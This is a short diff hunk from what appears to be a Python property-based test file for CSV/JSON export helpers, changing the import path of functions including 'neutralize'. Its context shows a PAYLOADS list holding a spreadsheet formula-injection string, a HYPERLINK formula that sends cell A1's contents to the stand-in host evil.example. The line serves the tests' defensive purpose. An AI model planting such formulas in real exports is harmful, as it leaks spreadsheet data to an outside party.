@@ -8,7 +8,7 @@ import pandas as pd
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from analysis.export import frame_to_json_lines, neutralize, to_csv_bytes
+from analysis.render.export import frame_to_json_lines, neutralize, to_csv_bytes
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?d="&A1,"点击")',
